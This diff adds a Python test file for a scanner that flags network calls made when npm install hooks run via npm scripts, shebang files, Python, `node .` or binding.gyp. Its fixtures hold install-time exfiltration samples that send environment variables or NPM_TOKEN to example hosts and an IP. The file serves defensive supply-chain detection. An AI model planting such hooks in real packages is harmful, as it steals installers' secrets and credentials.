@@ -1,0 +1,70 @@
+"""What npm install hooks run is read whatever its form: `npm run x`, `./setup`, `python3 x.py`, `node .`, binding.gyp."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+from egress.model import FindingKind, Timing
+from tests.pipeline import scan_one
+
+
+def _package(root: Path, scripts: dict | None, files: dict[str, str]) -> Path:
+    root.mkdir()
+    manifest = {"name": root.name, "version": "1.0.0", "main": "index.js"}
+    if scripts is not None:
+        manifest["scripts"] = scripts
+    (root / "package.json").write_text(json.dumps(manifest, indent=2))
+    for path, text in files.items():
+        (root / path).parent.mkdir(parents=True, exist_ok=True)
+        (root / path).write_text(text)
+    return root
+
+
+def _install_network(root: Path, cache: Path) -> list[tuple[str, str, int]]:
+    package = scan_one(root, cache)
+    return sorted((f.api, f.file, f.line) for f in package.findings
+                  if f.kind is FindingKind.NETWORK and f.timing is Timing.INSTALL)
+
+
+def test_npm_run_of_another_script(tmp_path: Path) -> None:
+    root = _package(tmp_path / "h05", {"postinstall": "npm run fetchit", "fetchit": "curl -s https://h05.example.com/x -o x"},
+                    {"index.js": "module.exports = 1;\n"})
+    assert _install_network(root, tmp_path / "c") == [("curl", "package.json", 6)]
+
+
+def test_an_extensionless_executable_read_by_its_shebang(tmp_path: Path) -> None:
+    root = _package(tmp_path / "h01", {"postinstall": "./setup"},
+                    {"setup": "#!/bin/sh\ncurl -s -d \"$(env)\" https://h01.example.com/c\n",
+                     "tool": "#!/usr/bin/env node\nrequire('https').get('https://h01.example.com/n');\n",
+                     "index.js": "module.exports = 1;\n"})
+    assert _install_network(root, tmp_path / "c") == [("curl", "setup", 2)]
+    other = _package(tmp_path / "h01b", {"install": "./tool"},
+                     {"tool": "#!/usr/bin/env node\nrequire('https').get('https://h01.example.com/n');\n",
+                      "index.js": "module.exports = 1;\n"})
+    assert _install_network(other, tmp_path / "c2") == [("https.get", "tool", 2)]
+
+
+def test_a_python_file_a_hook_runs(tmp_path: Path) -> None:
+    root = _package(tmp_path / "h08", {"preinstall": "python3 tools/pre.py"},
+                    {"tools/pre.py": "import os, socket\ns = socket.create_connection(('198.51.100.9', 80))\n"
+                                     "s.sendall(os.environ['NPM_TOKEN'].encode())\n",
+                     "index.js": "module.exports = 1;\n"})
+    package = scan_one(root, tmp_path / "c")
+    assert ("installTimeNetwork", "tools/pre.py", 2) in {(a.type, a.finding.file, a.finding.line) for a in package.alerts}
+
+
+def test_node_dot_runs_main_at_install(tmp_path: Path) -> None:
+    root = _package(tmp_path / "h06", {"postinstall": "node ."},
+                    {"index.js": "require('https').get('https://h06.example.com/?e=' + JSON.stringify(process.env));\n"})
+    assert _install_network(root, tmp_path / "c") == [("https.get", "index.js", 1)]
+
+
+def test_binding_gyp_commands_run_when_npm_builds_the_addon(tmp_path: Path) -> None:
+    gyp = ('{ "targets": [ { "target_name": "x",\n'
+           '  "sources": [ "<!(curl -s https://gyp.example.com/?e=$(env|base64 -w0))" ] } ] }\n')
+    root = _package(tmp_path / "b06", None, {"binding.gyp": gyp, "index.js": "module.exports = 1;\n"})
+    assert _install_network(root, tmp_path / "c") == [("curl", "binding.gyp", 2)]
+    # a package with its own install script: npm does not run node-gyp for it
+    own = _package(tmp_path / "b07", {"install": "echo done"}, {"binding.gyp": gyp, "index.js": "module.exports = 1;\n"})
+    assert _install_network(own, tmp_path / "c2") == []
